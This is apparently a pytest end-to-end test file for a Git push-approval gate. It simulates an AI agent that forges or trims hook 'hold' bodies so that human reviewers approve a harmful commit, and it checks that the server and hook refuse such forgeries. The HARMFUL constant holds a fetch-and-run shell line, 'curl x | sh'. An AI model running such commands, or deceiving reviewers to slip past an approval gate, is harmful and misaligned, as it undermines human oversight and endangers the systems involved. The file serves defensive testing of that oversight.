"""Issue 11, point 1, "Forged diff": an agent with a hook token captures the honest hook's hold
body for its commit (a copy of the repository whose hook talks to the agent's own listener),
edits it and posts it to the real server. The server renders what it shows from objects it
verified, so an edited body is refused, one with a blob left out shows "content not sent",
and an approval of it never lets the real push through: its content SHA-256 is not the one
of what the honest hook reads. The hook checks that hash too, against any server's answer.
"""

from __future__ import annotations

import base64
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import requests
from sqlalchemy import func, select

from gate import wire
from gate.git.objects import content_sha256, object_id
from tests.support.gitrepo import WorkClone, remote_ref
from tests.support.receiver import Receiver
from tests.support.server import (
    GatedRepo,
    LiveServer,
    make_gated_repo,
    request_id_from,
    request_state,
)

pytestmark = pytest.mark.e2e

AGENT = ("Build Bot", "ci@bots.example.com")
HARMFUL = "import os; os.system('curl x | sh')\n"
FORGED = "# tidy: comment only\n"


def seed(gated: GatedRepo) -> WorkClone:
    clone = gated.clone()
    clone.commit("initial", {"README.md": "hello\n", "train/loop.py": "steps = 1\n"})
    assert clone.push().ok
    return clone


def agent_commit(clone: WorkClone) -> str:
    return clone.commit("Tidy the loop", {"train/loop.py": HARMFUL}, author=AGENT)


def push_to(clone: WorkClone, bare: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["git", "push", "--porcelain", str(bare), "HEAD:refs/heads/main"],
        cwd=clone.path,
        capture_output=True,
        text=True,
    )


def captured_hold(tmp: Path, clone: WorkClone, respond: Any = None) -> tuple[dict, Receiver]:
    """The hold body the real hook sends for the clone's HEAD, from a copy of the repository
    (same name, same policy) whose hook posts to a local listener."""
    receiver = Receiver(respond=respond)
    copy = make_gated_repo(
        tmp, f"http://127.0.0.1:{receiver.httpd.server_port}", "agent-has-any-token"
    )
    subprocess.run(["git", "fetch", "-q", str(clone.bare), "main"], cwd=clone.path, check=True)
    assert push_to_base(clone, copy.bare)
    push_to(clone, copy.bare)
    # The human push's post-receive reports can arrive after the hold: take holds only.
    holds = [
        wire.decode(body, headers.get("Content-Encoding"), wire.MAX_HOLD_BYTES)
        for (headers, body), path in zip(receiver.received, receiver.paths, strict=True)
        if body and path.endswith("/holds")
    ]
    return holds[-1], receiver


def push_to_base(clone: WorkClone, bare: Path) -> bool:
    """The copy starts where the real repository is (a human's push: nothing to hold)."""
    done = subprocess.run(
        ["git", "push", "-q", str(bare), "FETCH_HEAD:refs/heads/main"],
        cwd=clone.path,
        capture_output=True,
        text=True,
    )
    return done.returncode == 0


def objects(body: dict) -> list[tuple[str, bytes]]:
    return [(o["type"], base64.b64decode(o["data"])) for o in body["items"][0]["objects"]]


def with_objects(body: dict, objects: list[tuple[str, bytes]], key: str | None = None) -> dict:
    edited = json.loads(json.dumps(body))
    item = edited["items"][0]
    item["objects"] = wire.commit_item(item["key"], objects, [], {})["objects"]
    if key is not None:
        item["key"] = edited["new"] = key
    return edited


def post(server: LiveServer, gated: GatedRepo, body: dict) -> requests.Response:
    token = gated.token_file.read_text().strip()  # the real hook token the agent holds
    return requests.post(
        f"{server.url}{wire.HOLDS_PATH}",
        json=body,
        headers={"Authorization": f"Bearer {token}"},
        timeout=60,
    )


def request_count(server: LiveServer) -> int:
    from gate.server.extensions import db
    from gate.server.models import ApprovalRequest

    with server.app.app_context():
        return db.session.scalar(select(func.count()).select_from(ApprovalRequest)) or 0


def assert_refused(response: requests.Response, *words: str) -> None:
    assert response.status_code == 400, response.text
    message = response.json()["error"]["message"]
    assert "\n" not in message and all(word in message for word in words), message


def test_edited_hold_bodies_are_refused_and_the_reviewer_never_sees_the_forgery(
    gated: GatedRepo, server: LiveServer, tmp_path: Path
) -> None:
    clone = seed(gated)
    sha = agent_commit(clone)
    body, receiver = captured_hold(tmp_path / "copy", clone)
    receiver.close()
    assert body["items"][0]["key"] == sha and "diffs" not in body["items"][0]
    sent = objects(body)
    harmful = ("blob", HARMFUL.encode())
    assert harmful in sent

    # the harmful line replaced by a harmless one (the blob's bytes edited)
    edited = [("blob", FORGED.encode()) if o == harmful else o for o in sent]
    assert_refused(post(server, gated, with_objects(body, edited)), "is not part of commit")
    # the blob swapped for another valid object
    swapped = [("blob", b"hello\n") if o == harmful else o for o in sent]
    assert_refused(post(server, gated, with_objects(body, swapped)), "is not part of commit")
    # a different parent claimed: the commit's own bytes change, so does its id
    raw = next(data for kind, data in sent if object_id(kind, data) == sha)
    parent = raw.split(b"\nparent ", 1)[1][:40]
    other = raw.replace(parent, b"f" * 40)
    forged_parent = [("commit", other) if o == ("commit", raw) else o for o in sent]
    assert_refused(post(server, gated, with_objects(body, forged_parent)), "was not sent", sha)
    assert_refused(
        post(server, gated, with_objects(body, forged_parent, object_id("commit", other))),
        f"parent {'f' * 40} was not sent",
    )
    assert request_count(server) == 0, "no refused body makes a request"

    # a diff the old server would have stored is no longer read at all
    old_style = json.loads(json.dumps(body))
    old_style["items"][0]["diffs"] = [{"files": [{"path": "train/loop.py", "patch": "+" + FORGED}]}]
    old_style["items"][0]["diff_sha256"] = "0" * 64
    answer = post(server, gated, old_style)
    assert answer.status_code == 200, answer.text
    page = server.reviewer("alice").page(f"/requests/{answer.json()['items'][0]['request_id']}")
    assert "os.system(&#39;curl x | sh&#39;)" in page.text
    assert "tidy: comment only" not in page.text
    assert content_sha256(sent) in page.text


def test_an_approved_hold_with_a_blob_left_out_does_not_let_the_push_through(
    gated: GatedRepo, server: LiveServer, tmp_path: Path
) -> None:
    clone = seed(gated)
    before = remote_ref(gated.bare)
    sha = agent_commit(clone)
    body, receiver = captured_hold(tmp_path / "copy", clone)
    receiver.close()
    sent = objects(body)
    partial = [o for o in sent if o != ("blob", HARMFUL.encode())]
    answer = post(server, gated, with_objects(body, partial))
    assert answer.status_code == 200, answer.text
    (item,) = answer.json()["items"]
    assert item["state"] == "pending" and item["content_sha256"] == content_sha256(partial)
    forged_request = item["request_id"]

    alice = server.reviewer("alice")
    page = alice.page(f"/requests/{forged_request}").text
    assert "Content not sent by the hook" in page and object_id("blob", HARMFUL.encode()) in page
    assert "os.system" not in page and "tidy: comment only" not in page
    response = alice.decide(forged_request, "approve", "looks empty to me")
    assert response.ok and "Your decision was recorded" in response.text

    result = clone.push()
    assert not result.ok, "an approval of other content must not let the commit land"
    assert remote_ref(gated.bare) == before
    fresh = request_id_from(result.gate_lines)
    assert fresh != forged_request
    assert "os.system(&#39;curl x | sh&#39;)" in alice.page(f"/requests/{fresh}").text
    assert "superseded" in alice.page(f"/requests/{forged_request}").text
    superseded = [r for r in audit_subjects(server, "request.superseded")]
    assert superseded[-1]["content_changed"] == [sha]

    assert alice.decide(fresh, "approve", "read the real diff").ok
    final = clone.push()
    assert final.ok, final.stderr
    assert remote_ref(gated.bare) == sha


def audit_subjects(server: LiveServer, action: str) -> list[dict[str, Any]]:
    from gate.server.extensions import db
    from gate.server.models import AuditRecord

    with server.app.app_context():
        return [
            r.subject
            for r in db.session.scalars(
                select(AuditRecord).where(AuditRecord.action == action).order_by(AuditRecord.seq)
            )
        ]


def approving(content: str | None) -> Any:
    """A stand-in server that approves every item, naming ``content`` as the approved content
    SHA-256 ("right": the hash of what was sent; None: no hash, as from a server before)."""

    def respond(headers: dict[str, str], raw: bytes) -> bytes:
        body = wire.decode(raw, headers.get("Content-Encoding"), wire.MAX_HOLD_BYTES)
        if "items" not in body:
            return json.dumps({"recorded": True, "seq": 1}).encode()  # a post-receive report
        items = []
        for item in body["items"]:
            sent = [(o["type"], base64.b64decode(o["data"])) for o in item.get("objects", [])]
            digest = content_sha256(sent) if content == "right" else content
            items.append(
                {"key": item["key"], "state": "approved", "request_id": 1}
                | ({"content_sha256": digest} if digest else {})
            )
        request = {
            "id": 1,
            "state": "approved",
            "approvals": {"training": {"given": 1, "needed": 1}},
        }
        return json.dumps({"items": items, "requests": [request], "pauses": []}).encode()

    return respond


@pytest.mark.parametrize("content", ["0" * 64, None, "right"])
def test_the_hook_takes_an_approval_only_for_the_content_it_read(
    tmp_path: Path, content: str | None
) -> None:
    receiver = Receiver(respond=approving(content))
    try:
        gated = make_gated_repo(
            tmp_path / "git", f"http://127.0.0.1:{receiver.httpd.server_port}", "token"
        )
        clone = seed(gated)
        before = remote_ref(gated.bare)
        sha = agent_commit(clone)
        result = clone.push()
    finally:
        receiver.close()
    if content == "right":
        assert result.ok, result.stderr
        assert remote_ref(gated.bare) == sha
    else:
        assert not result.ok
        assert remote_ref(gated.bare) == before
        assert "approval was for different content" in "\n".join(result.gate_lines)


# Incomplete holds: content the server could not verify never supersedes a request -----------


def test_a_hold_with_a_blob_left_out_cannot_throw_away_standing_approvals(
    gated: GatedRepo, server: LiveServer, tmp_path: Path
) -> None:
    """The honest push is held and approved; the agent then posts its captured hold with the
    harmful blob left out. Superseding would discard the approval on the word of content the
    server cannot check: the hold is refused, audited, and the approved push lands."""
    clone = seed(gated)
    sha = agent_commit(clone)
    held = clone.push()
    assert not held.ok
    request = request_id_from(held.gate_lines)
    alice = server.reviewer("alice")
    assert alice.decide(request, "approve", "read the real diff").ok
    assert request_state(server.app, request)["state"] == "approved"

    body, receiver = captured_hold(tmp_path / "copy", clone)
    receiver.close()
    partial = [o for o in objects(body) if o != ("blob", HARMFUL.encode())]
    answer = post(server, gated, with_objects(body, partial))
    assert answer.status_code == 409, answer.text
    error = answer.json()["error"]
    assert error["code"] == "hold_incomplete"
    assert f"request {request} (approved) keeps its approvals" in error["message"], error
    assert "did not send the content of train/loop.py" in error["message"], error
    assert request_count(server) == 1, "the refused hold made no request"
    assert audit_subjects(server, "request.superseded") == []
    (refused,) = audit_subjects(server, "hold.incomplete_refused")
    assert refused["kept"] == [request] and refused["unsent"] == {sha: ["train/loop.py"]}
    assert refused["approvals_kept"] == {str(request): ["alice"]}

    state = request_state(server.app, request)
    assert state["state"] == "approved" and state["approvals"]["training"]["given"] == 1
    landed = clone.push()
    assert landed.ok, landed.stderr
    assert remote_ref(gated.bare) == sha


def test_a_push_with_a_file_over_the_cap_cannot_supersede_a_pending_request(
    gated: GatedRepo, server: LiveServer
) -> None:
    """The real hook, honestly: an agent's second push to the ref adds a file over the hook's
    per-file cap (never sent). It would supersede the agent's pending request, which has one
    of its two approvals: it is refused saying why and what to do, the request and its
    approval stand, and once that request is decided the new commit is held on its own."""
    clone = seed(gated)
    before = remote_ref(gated.bare)
    first = clone.commit("Widen the net", {"model/net.py": "layers = 2\n"}, author=AGENT)
    request = request_id_from(clone.push(pusher="agent-ci").gate_lines)
    assert server.reviewer("alice").decide(request, "approve", "one of two").ok

    big = b"w" * (wire.MAX_SENT_BLOB + 1)
    second = clone.commit("Add the weights", {"model/weights.bin": big}, author=AGENT)
    refused = clone.push(pusher="agent-ci")
    assert not refused.ok and remote_ref(gated.bare) == before
    text = " ".join(refused.gate_lines)
    assert f"refused to hold this push: request {request} (pending) keeps its approvals" in text
    assert "did not send the content of model/weights.bin" in text, text
    assert "Have it decided (approved or denied), then push again" in text, text
    assert "Try again later" not in text, text
    assert "Traceback" not in refused.stderr
    state = request_state(server.app, request)
    assert state["state"] == "pending" and state["approvals"]["model"]["given"] == 1
    (noted,) = audit_subjects(server, "hold.incomplete_refused")
    assert noted["kept"] == [request] and noted["unsent"] == {second: ["model/weights.bin"]}
    assert noted["pusher"] == "agent-ci" and noted["approvals_kept"] == {str(request): ["alice"]}
    assert audit_subjects(server, "request.superseded") == []

    # The way on: the pending request decided, the new commit is held in a request of its own.
    assert server.reviewer("bob").decide(request, "approve", "two of two").ok
    again = clone.push(pusher="agent-ci")
    assert not again.ok
    fresh = request_id_from(again.gate_lines)
    assert fresh != request and request_state(server.app, request)["state"] == "approved"
    assert held_keys(server, fresh) == [second], "the approved commit is not held again"
    assert (
        "Content not sent by the hook" in server.reviewer("carol").page(f"/requests/{fresh}").text
    )
    assert held_keys(server, request) == [first]


def held_keys(server: LiveServer, request_id: int) -> list[str]:
    from gate.server.extensions import db
    from gate.server.models import HeldItem

    with server.app.app_context():
        return list(
            db.session.scalars(
                select(HeldItem.key).where(
                    HeldItem.request_id == request_id, HeldItem.active.is_(True)
                )
            )
        )
